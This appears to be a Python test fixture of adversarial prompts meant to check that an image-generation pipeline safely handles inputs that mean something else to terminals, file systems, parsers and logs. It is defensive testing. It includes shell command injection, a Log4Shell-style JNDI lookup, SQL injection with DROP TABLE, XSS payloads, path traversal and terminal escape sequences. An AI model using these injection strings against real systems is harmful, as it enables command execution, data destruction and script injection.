"""Prompts that mean something else to a terminal, a file system, a log, a font or a parser."""

from __future__ import annotations

MEBIBYTE = 1 << 20

PROMPTS = [
    "".join(map(chr, range(32))),
    "".join(map(chr, range(127, 160))),
    "a\x00cat",
    "\x00",
    "a cat\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "a\x85b\u2028c\u2029d",
    "../../../../tmp/hostile",
    "/tmp/hostile/cat",
    "..\\..\\hostile",
    "C:\\hostile\\cat.png",
    "\\\\host\\hostile",
    "file:///tmp/hostile",
    "~/hostile",
    "....//....//hostile",
    "%2e%2e%2fhostile",
    "\uff0e\uff0e\uff0fhostile",
    "CON",
    "nul.png",
    "aux com1 lpt9",
    ".hidden",
    "-rf hostile",
    "$(touch hostile) `touch hostile` ; touch hostile | tee hostile",
    "%s%s%n%x {0} {0.__class__} %(hostile)s ${jndi:ldap://hostile}",
    "' OR 1=1; DROP TABLE pictures; --",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a fox\nNegative prompt: a cat\nSteps: 150, Seed: 1",
    'a "fox", Prompt: "a \\" cat"\\',
    "\u202egnp.tac",
    "\u2066a\u2069\u200f\u200e\u061c cat",
    "a\u200bc\u200da\u2060t\ufeff",
    "e" + "\u0301" * 3900,
    "\u0301" * 3900,
    "Z\u0351\u036b\u0343\u036a" * 700,
    "\ufdfa" * 3900,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500,
    "\U000e0001\U000e0061" * 1000,
    "\ue000\uf8ff\U0010fffd",
    "\ufffe\uffff\U0010ffff",
    "\u0130\u0131\u017f\u1e9e\ufb01",
    "a" * 4000,
    "a " * 2000,
    "\U00010384" * 4000,
    "1" * 4000,
    "<|endoftext|><|startoftext|>",
    "[[[[((((hostile:1.5))))]]]]",
]
# What is refused for its length or for being no text, whatever else is in it.
REFUSED = [
    "\u0301" * (MEBIBYTE // 2),
    "\u0301" * MEBIBYTE,
    "\ud800",
    "a \udfff cat",
    "\udc00\ud800",
]
# None of these may be made by drawing the prompts above.
MARK = "hostile"
